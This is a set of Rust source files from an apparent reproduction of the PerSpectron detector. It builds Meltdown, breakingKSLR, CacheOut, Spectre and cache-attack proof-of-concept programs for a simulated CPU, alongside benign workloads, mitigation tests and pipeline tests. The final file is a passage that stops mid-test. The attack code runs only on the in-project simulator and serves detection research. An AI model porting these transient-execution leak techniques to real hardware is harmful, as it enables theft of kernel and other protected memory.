        ),
        CoreScenario::new(
            "xcore-flush-reload-shared",
            M,
            Family::FlushReload,
            vec![xcore_flush_reload(), xcore_victim()],
        ),
        CoreScenario::new(
            "xcore-spectre-coloc",
            M,
            Family::SpectreV1,
            vec![
                spectre::spectre_v1(SpectreV1Params::default()),
                stream_neighbor("stream-tenant", 0x80_0000, 512),
            ],
        ),
        CoreScenario::new(
            "xbenign-stream-pair",
            B,
            Family::Benign,
            vec![
                stream_neighbor("stream-a", 0x80_0000, 768),
                stream_neighbor("stream-b", 0x90_0000, 768),
            ],
        ),
        CoreScenario::new(
            "xbenign-pchase-compute",
            B,
            Family::Benign,
            vec![b(benign::mcf()), b(benign::hmmer())],
        ),
        CoreScenario::new(
            "xbenign-stream-compute",
            B,
            Family::Benign,
            vec![b(benign::libquantum()), b(benign::sjeng())],
        ),
        CoreScenario::new(
            "xbenign-mixed-pair",
            B,
            Family::Benign,
            vec![b(benign::bzip2()), b(benign::astar())],
        ),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suite_shape_and_labels() {
        let suite = cross_core_suite();
        assert_eq!(suite.len(), 8);
        assert!(suite.iter().all(|s| s.n_cores() == 2));
        assert_eq!(
            suite.iter().filter(|s| s.class == Class::Malicious).count(),
            4
        );
        let mut names: Vec<_> = suite.iter().map(|s| s.name.clone()).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), 8, "scenario names must be unique");
    }

    #[test]
    fn core_workloads_label_only_the_foreground_as_malicious() {
        for s in cross_core_suite() {
            let per_core = s.core_workloads();
            assert_eq!(per_core.len(), s.n_cores());
            assert_eq!(per_core[0].class, s.class);
            for w in &per_core[1..] {
                assert_eq!(w.class, Class::Benign, "{}", w.name);
            }
            for (i, w) in per_core.iter().enumerate() {
                assert_eq!(w.name, format!("{}#core{i}", s.name));
            }
        }
    }

    #[test]
    fn attacker_arena_contends_with_victim_buffer_in_l2() {
        // Same L2 set ⇔ same (addr / 64) mod 4096.
        let l2_set = |addr: u64| (addr / LINE) % (L2_SET_STRIDE / LINE);
        for n in 0..MONITORED_LINES {
            assert_eq!(
                l2_set(XCORE_ARENA + n * LINE),
                l2_set(VICTIM_BUF + n * LINE),
                "arena line {n} must map to the victim's L2 set"
            );
        }
    }
}
