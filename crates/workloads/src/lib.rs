//! Attack PoCs and benign kernels for the PerSpectron reproduction.
//!
//! Everything the paper runs on gem5 exists here as a program for the
//! simulated machine: the Spectre family (with twelve polymorphic
//! transformations and bandwidth-reduced variants), Meltdown and its
//! descendants, the three cache attacks with their calibration loops, and a
//! SPEC-CPU-2006-flavored benign suite.
//!
//! # Example
//!
//! ```
//! use workloads::{attack_suite, benign_suite, Class};
//!
//! let attacks = attack_suite();
//! assert!(attacks.iter().all(|w| w.class == Class::Malicious));
//! assert!(benign_suite().len() >= 12);
//! ```

#![warn(missing_docs)]

pub mod benign;
pub mod cache_attacks;
pub mod layout;
pub mod meltdown;
pub mod multicore;
pub mod spectre;

use uarch_isa::Program;

pub use cache_attacks::CalibrationKind;
pub use multicore::{cross_core_suite, CoreScenario};
pub use spectre::{SpectreV1Params, V1Variant};

/// Ground-truth label of a workload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Class {
    /// A microarchitectural attack (or its calibration phase).
    Malicious,
    /// An ordinary program.
    Benign,
}

/// Attack family, used for the paper's attack-held-out cross-validation
/// folds (Table III).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[allow(missing_docs)]
pub enum Family {
    SpectreV1,
    SpectreV2,
    SpectreRsb,
    Meltdown,
    BreakingKslr,
    CacheOut,
    FlushFlush,
    FlushReload,
    PrimeProbe,
    Calibration,
    Benign,
}

impl Family {
    /// Human-readable name matching the paper's tables.
    pub fn label(self) -> &'static str {
        match self {
            Family::SpectreV1 => "spectreV1",
            Family::SpectreV2 => "spectreV2",
            Family::SpectreRsb => "spectreRSB",
            Family::Meltdown => "meltdown",
            Family::BreakingKslr => "breakingKSLR",
            Family::CacheOut => "cacheOut",
            Family::FlushFlush => "flush+flush",
            Family::FlushReload => "flush+reload",
            Family::PrimeProbe => "prime+probe",
            Family::Calibration => "calibration",
            Family::Benign => "benign",
        }
    }
}

/// A labeled program ready to run on the simulator.
#[derive(Debug, Clone)]
pub struct Workload {
    /// Unique workload name.
    pub name: String,
    /// Ground-truth class.
    pub class: Class,
    /// Attack family (or [`Family::Benign`]).
    pub family: Family,
    /// The program itself.
    pub program: Program,
}

impl Workload {
    fn new(class: Class, family: Family, program: Program) -> Self {
        Self {
            name: program.name().to_string(),
            class,
            family,
            program,
        }
    }
}

/// The nine attacks of the paper's training/evaluation set, plus the three
/// calibration programs.
pub fn attack_suite() -> Vec<Workload> {
    use Class::Malicious as M;
    vec![
        Workload::new(
            M,
            Family::SpectreV1,
            spectre::spectre_v1(SpectreV1Params::default()),
        ),
        Workload::new(M, Family::SpectreV2, spectre::spectre_v2()),
        Workload::new(M, Family::SpectreRsb, spectre::spectre_rsb()),
        Workload::new(M, Family::Meltdown, meltdown::meltdown()),
        Workload::new(M, Family::BreakingKslr, meltdown::breaking_kaslr()),
        Workload::new(M, Family::CacheOut, meltdown::cacheout()),
        Workload::new(M, Family::FlushFlush, cache_attacks::flush_flush()),
        Workload::new(M, Family::FlushReload, cache_attacks::flush_reload()),
        Workload::new(M, Family::PrimeProbe, cache_attacks::prime_probe()),
        Workload::new(
            M,
            Family::Calibration,
            cache_attacks::calibration(CalibrationKind::FlushReload),
        ),
        Workload::new(
            M,
            Family::Calibration,
            cache_attacks::calibration(CalibrationKind::FlushFlush),
        ),
        Workload::new(
            M,
            Family::Calibration,
            cache_attacks::calibration(CalibrationKind::PrimeProbe),
        ),
    ]
}

/// The benign SPEC-like suite.
///
/// # Panics
///
/// Panics if a benign kernel fails to assemble (a bug in the builders —
/// see [`try_benign_suite`] for the fallible variant).
pub fn benign_suite() -> Vec<Workload> {
    try_benign_suite().expect("benign suite assembles")
}

/// Fallible variant of [`benign_suite`]: surfaces the first assembly error
/// instead of panicking.
pub fn try_benign_suite() -> Result<Vec<Workload>, uarch_isa::AsmError> {
    Ok(benign::all_benign()?
        .into_iter()
        .map(|p| Workload::new(Class::Benign, Family::Benign, p))
        .collect())
}

/// The twelve polymorphic SpectreV1 variants (none of which appear in the
/// training suite).
pub fn polymorphic_suite() -> Vec<Workload> {
    V1Variant::POLYMORPHIC
        .iter()
        .map(|&variant| {
            Workload::new(
                Class::Malicious,
                Family::SpectreV1,
                spectre::spectre_v1(SpectreV1Params {
                    variant,
                    delay_iters: 0,
                }),
            )
        })
        .collect()
}

/// Bandwidth-reduced SpectreV1 variants. Returns `(bandwidth, workload)`
/// pairs for 1.0x, 0.75x, 0.5x and 0.25x.
pub fn bandwidth_suite() -> Vec<(f64, Workload)> {
    // One attack iteration is roughly 12k instructions; the filler loop is
    // 2 instructions per iteration, split across two injection sites.
    const ITERATION_COST: f64 = 12_000.0;
    [1.0, 0.75, 0.5, 0.25]
        .into_iter()
        .map(|bw| {
            let delay = if bw >= 1.0 {
                0
            } else {
                (ITERATION_COST * (1.0 / bw - 1.0) / 4.0) as i64
            };
            let mut w = Workload::new(
                Class::Malicious,
                Family::SpectreV1,
                spectre::spectre_v1(SpectreV1Params {
                    variant: V1Variant::Classic,
                    delay_iters: delay,
                }),
            );
            w.name = format!("spectre-v1-{bw:.2}x");
            (bw, w)
        })
        .collect()
}

/// The cross-function pair: the interprocedural Spectre v1 gadget (bounds
/// check and secret load in the callee, probe transmit in the caller) and
/// its benign control with the same call/return dependent-load shape.
///
/// Kept out of [`attack_suite`] / [`full_suite`]: those sizes are pinned by
/// the perceptron-corpus tests, and this pair exists to exercise the
/// interprocedural static analyzer, not the trained detector.
pub fn interprocedural_suite() -> Vec<Workload> {
    vec![
        Workload::new(
            Class::Malicious,
            Family::SpectreV1,
            spectre::spectre_v1_crossfn(),
        ),
        Workload::new(Class::Benign, Family::Benign, spectre::crossfn_benign()),
    ]
}

/// The complete labeled corpus: attacks + calibration + benign.
pub fn full_suite() -> Vec<Workload> {
    let mut v = attack_suite();
    v.extend(benign_suite());
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suites_have_expected_sizes_and_unique_names() {
        let full = full_suite();
        assert_eq!(attack_suite().len(), 12);
        assert!(benign_suite().len() >= 13);
        assert_eq!(polymorphic_suite().len(), 12);
        assert_eq!(bandwidth_suite().len(), 4);
        let mut names: Vec<_> = full.iter().map(|w| w.name.clone()).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), full.len(), "workload names must be unique");
    }

    #[test]
    fn families_cover_the_paper_table_iii_folds() {
        let fams: std::collections::HashSet<_> = attack_suite().iter().map(|w| w.family).collect();
        for f in [
            Family::SpectreV1,
            Family::SpectreV2,
            Family::SpectreRsb,
            Family::Meltdown,
            Family::BreakingKslr,
            Family::CacheOut,
            Family::FlushFlush,
            Family::FlushReload,
            Family::PrimeProbe,
        ] {
            assert!(fams.contains(&f), "missing family {f:?}");
        }
    }

    #[test]
    fn bandwidth_suite_scales_delay() {
        let suite = bandwidth_suite();
        assert_eq!(suite[0].0, 1.0);
        assert!(suite[3].1.program.len() >= suite[0].1.program.len());
    }
}
