//! Meltdown and its descendants: breakingKSLR and the CacheOut analog.

use uarch_isa::{Assembler, MarkKind, Program, Reg};

use crate::layout::{
    emit_flush_range, emit_probe_argmin, emit_record_result, install_common_segments,
    KERNEL_SECRET, LINE, PROBE_ARRAY, RESULTS, SECRET, VICTIM_BUF,
};

/// Base of the KASLR candidate region (breakingKSLR probes
/// `KASLR_REGION + i * KASLR_STRIDE`).
pub const KASLR_REGION: u64 = 0x9000_0000;
/// Distance between KASLR candidates.
pub const KASLR_STRIDE: u64 = 0x1_0000;
/// The candidate slot that is actually mapped.
pub const KASLR_MAPPED_SLOT: u64 = 11;
/// Number of candidates probed per sweep.
pub const KASLR_CANDIDATES: u64 = 16;
/// The marker byte stored at the mapped candidate.
pub const KASLR_MARKER: u8 = 0xab;

/// Builds the Meltdown PoC: a faulting kernel load whose value is forwarded
/// speculatively to a Flush+Reload disclosure gadget, with a fault handler
/// that probes and loops.
pub fn meltdown() -> Program {
    let mut a = Assembler::new("meltdown");
    install_common_segments(&mut a);
    a.kernel_data(KERNEL_SECRET, SECRET.to_vec());

    let handler = a.label();
    let outer = a.label();
    a.on_fault(handler);

    a.li(Reg::R20, 0); // secret byte index
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.mark(MarkKind::PhaseSpeculate);
    a.li(Reg::R14, KERNEL_SECRET as i64);
    a.add(Reg::R14, Reg::R14, Reg::R20);
    a.loadb(Reg::R6, Reg::R14, 0); // faults at commit; data forwards now
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, PROBE_ARRAY as i64);
    a.loadb(Reg::R7, Reg::R6, 0); // transient probe touch
    a.nop(); // never commits
    a.jmp(outer); // unreachable; the fault redirects

    a.bind(handler);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin(&mut a, Reg::R25);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    a.finish().expect("meltdown assembles")
}

/// Builds the breakingKSLR PoC (Meltdown-based): probe a range of candidate
/// kernel addresses; the mapped one forwards a marker byte through the
/// cache channel, the unmapped ones forward zero.
pub fn breaking_kaslr() -> Program {
    let mut a = Assembler::new("breaking-kslr");
    install_common_segments(&mut a);
    a.kernel_data(
        KASLR_REGION + KASLR_MAPPED_SLOT * KASLR_STRIDE,
        vec![KASLR_MARKER; 64],
    );

    let handler = a.label();
    let outer = a.label();
    a.on_fault(handler);

    a.li(Reg::R20, 0); // candidate index
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    a.mark(MarkKind::PhaseSpeculate);
    // candidate address = KASLR_REGION + idx * KASLR_STRIDE
    a.li(Reg::R14, KASLR_STRIDE as i64);
    a.mul(Reg::R14, Reg::R14, Reg::R20);
    a.addi(Reg::R14, Reg::R14, KASLR_REGION as i64);
    a.loadb(Reg::R6, Reg::R14, 0); // faults; forwards 0 or the marker
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, PROBE_ARRAY as i64);
    a.loadb(Reg::R7, Reg::R6, 0);
    a.jmp(outer); // unreachable

    a.bind(handler);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin(&mut a, Reg::R25);
    // A non-zero probe winner means the candidate was mapped: record the
    // candidate index at RESULTS[32].
    let not_mapped = a.label();
    a.beqz(Reg::R25, not_mapped);
    a.li(Reg::R1, (RESULTS + 32) as i64);
    a.storeb(Reg::R20, Reg::R1, 0);
    a.mark(MarkKind::LeakByte);
    a.bind(not_mapped);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (KASLR_CANDIDATES - 1) as i64);
    a.jmp(outer);

    a.finish().expect("breaking_kaslr assembles")
}

/// Builds the CacheOut-analog PoC.
///
/// CacheOut leaks data as it transits the line fill buffers during cache
/// evictions. The analog reproduces that composite footprint on this
/// machine: the attacker dirties victim lines, flushes them (pushing the
/// data into the DRAM write queue — the buffer being sampled), immediately
/// re-reads them (reads serviced by the write queue, the paper's
/// `bytesReadWrQ` signature), and recovers the value with a faulting load on
/// the kernel alias plus a Flush+Reload probe.
pub fn cacheout() -> Program {
    let mut a = Assembler::new("cacheout");
    install_common_segments(&mut a);
    a.kernel_data(KERNEL_SECRET, SECRET.to_vec());
    a.data(VICTIM_BUF, vec![0u8; 16 * LINE as usize]);

    let handler = a.label();
    let outer = a.label();
    a.on_fault(handler);

    a.li(Reg::R20, 0);
    a.bind(outer);
    a.mark(MarkKind::PhasePrime);
    emit_flush_range(&mut a, PROBE_ARRAY, 256);
    // Victim-like phase: dirty a run of lines, flush them (dirty data moves
    // into the DRAM write queue), then immediately read them back so the
    // reads are serviced by the write queue.
    a.li(Reg::R10, VICTIM_BUF as i64);
    a.li(Reg::R11, 8); // lines
    let dirty = a.label();
    a.bind(dirty);
    a.store(Reg::R20, Reg::R10, 0);
    a.flush(Reg::R10, 0);
    a.load(Reg::R12, Reg::R10, 0);
    a.addi(Reg::R10, Reg::R10, LINE as i64);
    a.subi(Reg::R11, Reg::R11, 1);
    a.bnez(Reg::R11, dirty);

    a.mark(MarkKind::PhaseSpeculate);
    // Sample the in-flight secret via the kernel alias.
    a.li(Reg::R14, KERNEL_SECRET as i64);
    a.add(Reg::R14, Reg::R14, Reg::R20);
    a.loadb(Reg::R6, Reg::R14, 0);
    a.shli(Reg::R6, Reg::R6, 6);
    a.addi(Reg::R6, Reg::R6, PROBE_ARRAY as i64);
    a.loadb(Reg::R7, Reg::R6, 0);
    a.jmp(outer); // unreachable

    a.bind(handler);
    a.mark(MarkKind::PhaseProbe);
    emit_probe_argmin(&mut a, Reg::R25);
    emit_record_result(&mut a, Reg::R20, Reg::R25);
    a.mark(MarkKind::LeakByte);
    a.mark(MarkKind::IterationEnd);
    a.addi(Reg::R20, Reg::R20, 1);
    a.andi(Reg::R20, Reg::R20, (SECRET.len() - 1) as i64);
    a.jmp(outer);

    a.finish().expect("cacheout assembles")
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_cpu::{Core, CoreConfig};

    #[test]
    fn meltdown_recovers_kernel_bytes() {
        let mut core = Core::new(CoreConfig::default(), meltdown());
        core.run(3_000_000);
        let mut hits = 0;
        for (i, &expect) in SECRET.iter().enumerate() {
            if core.mem().memory().read(RESULTS + i as u64, 1) as u8 == expect {
                hits += 1;
            }
        }
        assert!(
            hits >= SECRET.len() / 2,
            "Meltdown should leak, got {hits} bytes"
        );
        assert!(core.stats().commit.faults.value() > 10);
    }

    #[test]
    fn breaking_kaslr_finds_the_mapped_candidate() {
        let mut core = Core::new(CoreConfig::default(), breaking_kaslr());
        core.run(3_000_000);
        assert_eq!(
            core.mem().memory().read(RESULTS + 32, 1),
            KASLR_MAPPED_SLOT,
            "the mapped candidate slot must be identified"
        );
        assert!(core.stats().commit.faults.value() > 10);
    }

    #[test]
    fn cacheout_reads_hit_the_write_queue() {
        let mut core = Core::new(CoreConfig::default(), cacheout());
        core.run(1_000_000);
        assert!(
            core.mem().mem_ctrl().stats().bytes_read_wr_q.value() > 0,
            "CacheOut analog must exercise write-queue read servicing"
        );
        assert!(core.stats().commit.faults.value() > 0);
    }
}
