//! Mitigation tests (§IV-G): predictor noise and index randomization must
//! actually break the attacks they target, at a measurable but bounded
//! benign cost.

use sim_cpu::{Core, CoreConfig};
use workloads::layout::{RESULTS, SECRET};
use workloads::spectre::{spectre_v1, SpectreV1Params};

fn leaked_bytes(core: &Core) -> usize {
    SECRET
        .iter()
        .enumerate()
        .filter(|(i, &b)| core.mem().memory().read(RESULTS + *i as u64, 1) as u8 == b)
        .count()
}

#[test]
fn predictor_noise_breaks_spectre_v1() {
    let mut baseline = Core::new(
        CoreConfig::default(),
        spectre_v1(SpectreV1Params::default()),
    );
    baseline.run(1_200_000);
    let leaked_clean = leaked_bytes(&baseline);
    assert!(
        leaked_clean >= 10,
        "baseline attack must work ({leaked_clean})"
    );

    let mut noisy = Core::new(
        CoreConfig::default(),
        spectre_v1(SpectreV1Params::default()),
    );
    noisy.set_bp_noise(0.5);
    noisy.run(1_200_000);
    let leaked_noisy = leaked_bytes(&noisy);
    // The paper's claim is bandwidth reduction, not a hard stop:
    // "Increasing the frequency of the noise increases the time for an
    // attack to succeed". A flipped prediction on the attack iteration
    // denies that byte's speculation window, so the snapshot of correct
    // bytes drops roughly with the flip rate.
    assert!(
        (leaked_noisy as f64) <= leaked_clean as f64 * 0.75,
        "50% predictor noise must substantially cut the leak ({leaked_noisy} vs {leaked_clean})"
    );
}

#[test]
fn index_randomization_breaks_prime_probe() {
    let mut base = Core::new(
        CoreConfig::default(),
        workloads::cache_attacks::prime_probe(),
    );
    base.run(2_500_000);
    let hits_base = (0..32u64)
        .filter(|&i| {
            let b = SECRET[(i >> 1) as usize];
            let expected = if i & 1 == 0 { b >> 4 } else { b & 15 };
            base.mem().memory().read(RESULTS + i, 1) as u8 == expected
        })
        .count();
    assert!(hits_base >= 16, "baseline P+P must work ({hits_base}/32)");

    let mut rand = Core::new(
        CoreConfig::default(),
        workloads::cache_attacks::prime_probe(),
    );
    rand.randomize_cache_indexing(0x5DEECE66D);
    rand.run(2_500_000);
    let hits_rand = (0..32u64)
        .filter(|&i| {
            let b = SECRET[(i >> 1) as usize];
            let expected = if i & 1 == 0 { b >> 4 } else { b & 15 };
            rand.mem().memory().read(RESULTS + i, 1) as u8 == expected
        })
        .count();
    assert!(
        hits_rand < hits_base / 2,
        "index randomization must break set targeting ({hits_rand} vs {hits_base})"
    );
}

#[test]
fn noise_costs_bounded_benign_performance() {
    let mut clean = Core::new(
        CoreConfig::default(),
        workloads::benign::hmmer().expect("hmmer assembles"),
    );
    clean.run(300_000);
    let ipc_clean = clean.committed_insts() as f64 / clean.cycles() as f64;

    let mut noisy = Core::new(
        CoreConfig::default(),
        workloads::benign::hmmer().expect("hmmer assembles"),
    );
    noisy.set_bp_noise(0.05);
    noisy.run(300_000);
    let ipc_noisy = noisy.committed_insts() as f64 / noisy.cycles() as f64;

    assert!(ipc_noisy < ipc_clean, "noise is not free");
    assert!(
        ipc_noisy > ipc_clean * 0.3,
        "but it must not destroy benign performance ({ipc_noisy:.3} vs {ipc_clean:.3})"
    );
}
