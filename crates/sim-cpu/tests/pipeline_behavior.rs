//! Pipeline behavior tests: resource stalls, squash recovery, memory
//! ordering, predictor structures and timing properties of the
//! out-of-order core.

use sim_cpu::{Core, CoreConfig};
use uarch_isa::{AluOp, Assembler, Reg};

fn run(a: Assembler, max: u64) -> Core {
    let mut core = Core::new(CoreConfig::default(), a.finish().expect("assembles"));
    core.run(max);
    core
}

#[test]
fn independent_work_behind_a_miss_fills_the_rob() {
    // A missing load at the head of the window stalls commit; younger
    // INDEPENDENT ops issue and complete but cannot retire, so the ROB
    // (192 entries) fills before the IQ does. (A *dependent* chain would
    // fill the 64-entry IQ first — tested below.)
    let mut a = Assembler::new("rob-pressure");
    a.li(Reg::R1, 0x9_0000);
    let top = a.label();
    a.bind(top);
    a.load(Reg::R2, Reg::R1, 0); // commit-blocking miss
    a.flush(Reg::R1, 0);
    for i in 0..250 {
        // Independent: issue immediately, wait in the ROB to retire.
        a.li(Reg::from_index(8 + (i % 8)).expect("valid reg"), i as i64);
    }
    a.addi(Reg::R1, Reg::R1, 64);
    a.li(Reg::R3, 0xa_0000);
    a.blt(Reg::R1, Reg::R3, top);
    a.halt();
    let core = run(a, 200_000);
    assert!(
        core.stats().rename.rob_full_events.value() > 0,
        "completed-but-unretired work must exert ROB pressure"
    );
}

#[test]
fn dependent_chains_fill_the_iq_first() {
    let mut a = Assembler::new("iq-pressure");
    a.li(Reg::R1, 0x9_0000);
    let top = a.label();
    a.bind(top);
    a.load(Reg::R2, Reg::R1, 0);
    a.flush(Reg::R1, 0);
    // 100 ops all dependent on the missing load: they cannot issue, so
    // they sit in the 64-entry IQ.
    for _ in 0..100 {
        a.addi(Reg::R2, Reg::R2, 1);
    }
    a.addi(Reg::R1, Reg::R1, 64);
    a.li(Reg::R3, 0xa_0000);
    a.blt(Reg::R1, Reg::R3, top);
    a.halt();
    let core = run(a, 200_000);
    assert!(
        core.stats().rename.iq_full_events.value() > 0,
        "unissued dependent work must exert IQ pressure"
    );
}

#[test]
fn load_queue_fills_under_mass_misses() {
    let mut a = Assembler::new("lq-pressure");
    a.li(Reg::R1, 0x9_0000);
    let top = a.label();
    a.bind(top);
    // 40 independent missing loads (> 32 LQ entries).
    for i in 0..40 {
        a.load(Reg::R10, Reg::R1, i * 4096);
    }
    a.addi(Reg::R1, Reg::R1, 64);
    a.li(Reg::R3, 0x9_2000);
    a.blt(Reg::R1, Reg::R3, top);
    a.halt();
    let core = run(a, 500_000);
    assert!(
        core.stats().rename.lq_full_events.value() > 0,
        "mass loads must fill the load queue"
    );
}

#[test]
fn store_queue_fills_under_mass_stores() {
    let mut a = Assembler::new("sq-pressure");
    a.li(Reg::R1, 0x9_0000);
    a.li(Reg::R4, 0x9_0000 + 64 * 100);
    let top = a.label();
    a.bind(top);
    for i in 0..40 {
        a.store(Reg::R2, Reg::R1, i * 8);
    }
    a.addi(Reg::R1, Reg::R1, 64);
    a.blt(Reg::R1, Reg::R4, top);
    a.halt();
    let core = run(a, 500_000);
    assert!(core.stats().rename.sq_full_events.value() > 0);
}

#[test]
fn memory_order_violation_recovers_with_correct_value() {
    // A store whose address resolves slowly (behind a divide chain),
    // followed by a load to the same address that will execute first.
    let mut a = Assembler::new("violation");
    a.data(0x1000, vec![0u8; 64]);
    a.li(Reg::R1, 0x1000);
    a.li(Reg::R2, 77);
    // Slow address computation: chain of divides.
    a.li(Reg::R3, 1 << 30);
    for _ in 0..4 {
        a.alui(AluOp::Div, Reg::R3, Reg::R3, 2);
    }
    // addr = 0x1000 + (R3 - R3) = 0x1000, but unknown until divides finish.
    a.sub(Reg::R4, Reg::R3, Reg::R3);
    a.add(Reg::R4, Reg::R4, Reg::R1);
    a.store(Reg::R2, Reg::R4, 0);
    a.load(Reg::R5, Reg::R1, 0); // races ahead, reads stale 0, must replay
    a.halt();
    let core = run(a, 50_000);
    assert_eq!(
        core.reg(Reg::R5),
        77,
        "the load must observe the older store after recovery"
    );
    assert!(
        core.stats().iew.mem_order_violation_events.value() >= 1,
        "the speculation must have been caught"
    );
}

#[test]
fn deep_call_chains_wrap_the_ras_but_stay_correct() {
    // 24 nested calls (> 16 RAS entries): returns past the wrap mispredict
    // but the architectural call stack keeps execution correct.
    let mut a = Assembler::new("deep-calls");
    let mut labels = Vec::new();
    for _ in 0..24 {
        labels.push(a.label());
    }
    let end = a.label();
    a.li(Reg::R1, 0);
    a.call(labels[0]);
    a.jmp(end);
    for i in 0..24 {
        a.bind(labels[i]);
        a.addi(Reg::R1, Reg::R1, 1);
        if i + 1 < 24 {
            a.call(labels[i + 1]);
        }
        a.ret();
    }
    a.bind(end);
    a.halt();
    let core = run(a, 50_000);
    assert!(core.halted());
    assert_eq!(core.reg(Reg::R1), 24, "every frame executed exactly once");
    assert!(
        core.stats().bpred.ras_incorrect.value() > 0,
        "RAS wrap must mispredict some returns"
    );
}

#[test]
fn tlb_misses_scale_with_page_footprint() {
    // Sweep 256 pages (> 64 D-TLB entries) twice; the second sweep still
    // misses because the TLB capacity is exceeded.
    let mut a = Assembler::new("tlb-sweep");
    a.li(Reg::R1, 0x10_0000);
    a.li(Reg::R2, 0x10_0000 + 256 * 4096);
    let top = a.label();
    a.bind(top);
    a.loadb(Reg::R3, Reg::R1, 0);
    a.addi(Reg::R1, Reg::R1, 4096);
    a.blt(Reg::R1, Reg::R2, top);
    a.halt();
    let core = run(a, 100_000);
    assert!(
        core.stats().dtb.rd_misses.value() >= 250,
        "every new page misses the TLB"
    );
}

#[test]
fn ipc_reflects_program_character() {
    // Independent ALU ops in a hot loop: high IPC (straight-line code
    // would be bounded by cold I-cache misses instead). Dependent missing
    // loads: low IPC.
    let mut fast = Assembler::new("ilp");
    fast.li(Reg::R1, 200); // iterations
    let top = fast.label();
    fast.bind(top);
    for i in 0..64 {
        fast.li(Reg::from_index(8 + (i % 16)).expect("valid reg"), i as i64);
    }
    fast.subi(Reg::R1, Reg::R1, 1);
    fast.bnez(Reg::R1, top);
    fast.halt();
    let f = run(fast, 20_000);
    let ipc_fast = f.committed_insts() as f64 / f.cycles() as f64;

    let mut slow = Assembler::new("pointer-chase");
    slow.li(Reg::R1, 0x20_0000);
    let top = slow.label();
    slow.bind(top);
    slow.load(Reg::R1, Reg::R1, 0); // self-dependent missing load chain
    slow.flush(Reg::R1, 0);
    slow.li(Reg::R1, 0x20_0000);
    slow.load(Reg::R1, Reg::R1, 0);
    slow.subi(Reg::R2, Reg::R2, 1);
    slow.li(Reg::R1, 0x20_0000);
    slow.bnez(Reg::R2, top);
    slow.halt();
    let mut s_core = Core::new(CoreConfig::default(), slow.finish().unwrap());
    s_core.run(5_000);
    let ipc_slow = s_core.committed_insts() as f64 / s_core.cycles() as f64;

    assert!(
        ipc_fast > 3.0 * ipc_slow,
        "ILP code (IPC {ipc_fast:.2}) must dwarf a flush-bound chase (IPC {ipc_slow:.2})"
    );
    assert!(ipc_fast > 1.0, "8-wide core must exceed IPC 1 on pure ILP");
}

#[test]
fn squash_restores_architectural_register_state() {
    // A mispredicted branch guards register updates; after recovery the
    // wrong-path writes must be invisible.
    let mut a = Assembler::new("squash-arch");
    a.li(Reg::R10, 5);
    a.li(Reg::R11, 100);
    a.li(Reg::R12, 0);
    let top = a.label();
    let skip = a.label();
    a.bind(top);
    // Alternating branch (hard to predict early).
    a.andi(Reg::R2, Reg::R12, 1);
    a.bnez(Reg::R2, skip);
    a.addi(Reg::R10, Reg::R10, 10);
    a.bind(skip);
    a.addi(Reg::R12, Reg::R12, 1);
    a.blt(Reg::R12, Reg::R11, top);
    a.halt();
    let core = run(a, 50_000);
    // Exactly 50 even iterations took the +10 path.
    assert_eq!(core.reg(Reg::R10), 5 + 50 * 10);
    assert_eq!(core.reg(Reg::R12), 100);
}

#[test]
fn serializing_fence_drains_outstanding_misses() {
    // rdcycle after a missing load must observe the full miss latency.
    let mut a = Assembler::new("fence-timing");
    a.li(Reg::R1, 0x30_0000);
    a.rdcycle(Reg::R10);
    a.load(Reg::R2, Reg::R1, 0); // cold miss, ~100+ cycles
    a.rdcycle(Reg::R11);
    a.load(Reg::R3, Reg::R1, 8); // hit
    a.rdcycle(Reg::R12);
    a.halt();
    let core = run(a, 10_000);
    let miss = core.reg(Reg::R11) - core.reg(Reg::R10);
    let hit = core.reg(Reg::R12) - core.reg(Reg::R11);
    assert!(
        miss > hit + 30,
        "serialized timing must expose the miss ({miss}) vs hit ({hit})"
    );
}

#[test]
fn flush_of_dirty_line_takes_longest() {
    let mut a = Assembler::new("flush-tiers");
    a.data(0x5000, vec![1u8; 64]);
    a.li(Reg::R1, 0x5000);
    // Dirty: store then flush.
    a.store(Reg::R2, Reg::R1, 0);
    a.fence();
    a.rdcycle(Reg::R10);
    a.flush(Reg::R1, 0);
    a.fence();
    a.rdcycle(Reg::R11);
    // Clean: load then flush.
    a.load(Reg::R3, Reg::R1, 0);
    a.fence();
    a.rdcycle(Reg::R12);
    a.flush(Reg::R1, 0);
    a.fence();
    a.rdcycle(Reg::R13);
    // Absent: flush again.
    a.rdcycle(Reg::R14);
    a.flush(Reg::R1, 0);
    a.fence();
    a.rdcycle(Reg::R15);
    a.halt();
    let core = run(a, 10_000);
    let dirty = core.reg(Reg::R11) - core.reg(Reg::R10);
    let clean = core.reg(Reg::R13) - core.reg(Reg::R12);
    let absent = core.reg(Reg::R15) - core.reg(Reg::R14);
    assert!(
        dirty > clean,
        "dirty flush ({dirty}) > clean flush ({clean})"
    );
    assert!(
        clean > absent,
        "clean flush ({clean}) > absent flush ({absent})"
    );
}

#[test]
fn wrong_path_loads_install_cache_lines() {
    // The side-channel primitive in isolation: a line touched ONLY on the
    // wrong path of a mispredicted branch must still be cached afterwards.
    let mut a = Assembler::new("wrongpath-install");
    let line = 0x8_0000u64; // user-space line never touched architecturally
    a.li(Reg::R10, line as i64);
    a.li(Reg::R1, 0x9_0000);
    a.li(Reg::R2, 0); // i
    a.li(Reg::R3, 200);
    let top = a.label();
    let skip = a.label();
    a.bind(top);
